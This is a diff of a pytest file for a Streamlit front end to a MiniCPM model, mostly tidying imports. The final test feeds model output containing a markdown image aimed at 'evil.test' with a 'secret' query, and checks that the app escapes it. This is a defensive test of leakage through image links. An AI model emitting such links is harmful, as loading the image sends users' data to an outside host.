@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+from importlib import import_module
 from pathlib import Path
 from typing import TYPE_CHECKING, Any
 
@@ -9,8 +10,8 @@ import pytest
 
 from minicpm_core.emulator import EmulatorServer
 
-pytest.importorskip("streamlit")
-from streamlit.testing.v1 import AppTest  # pyright: ignore[reportMissingImports]
+st = pytest.importorskip("streamlit")
+AppTest = pytest.importorskip("streamlit.testing.v1").AppTest
 
 if TYPE_CHECKING:
     from collections.abc import Iterator
@@ -23,15 +24,13 @@ KEY = "made-up-key-of-the-app"
 @pytest.fixture(autouse=True)
 def beside_the_app(monkeypatch: pytest.MonkeyPatch) -> None:
     """`streamlit run` puts the folder of the script on the path, and the script's arguments into `sys.argv`."""
-    monkeypatch.syspath_prepend(str(APP))
+    monkeypatch.syspath_prepend(str(APP))  # pyright: ignore[reportUnknownMemberType]
     monkeypatch.setattr("sys.argv", ["app.py"])
 
 
 @pytest.fixture(autouse=True)
 def server(monkeypatch: pytest.MonkeyPatch) -> Iterator[EmulatorServer]:
     """A server of the visitor's own."""
-    import streamlit as st  # pyright: ignore[reportMissingImports]
-
     st.cache_resource.clear()
     with EmulatorServer(dialect="vllm", api_key=KEY) as server:
         monkeypatch.setenv("MINICPM_BASE_URL", server.base_url)
@@ -41,7 +40,7 @@ def server(monkeypatch: pytest.MonkeyPatch) -> Iterator[EmulatorServer]:
 
 
 def opened() -> Any:
-    app = AppTest.from_file(str(APP / "app.py"), default_timeout=60).run()
+    app: Any = AppTest.from_file(str(APP / "app.py"), default_timeout=60).run()
     assert not app.exception
     return app
 
@@ -157,7 +156,7 @@ def test_forgetting_deletes_the_uploads() -> None:
 
 
 def test_a_model_cannot_show_a_picture_from_elsewhere() -> None:
-    from asking import Turn  # type: ignore[import-not-found]  # pyright: ignore[reportMissingImports]
-
-    turn = Turn("?", photos=[object()], text="See [1], [2] and ![x](http://evil.test/?q=secret)")
+    turn = import_module("asking").Turn(
+        "?", photos=[object()], text="See [1], [2] and ![x](http://evil.test/?q=secret)"
+    )
     assert turn.markdown == "See :primary-badge[1], [2] and !\\[x](http://evil.test/?q=secret)"
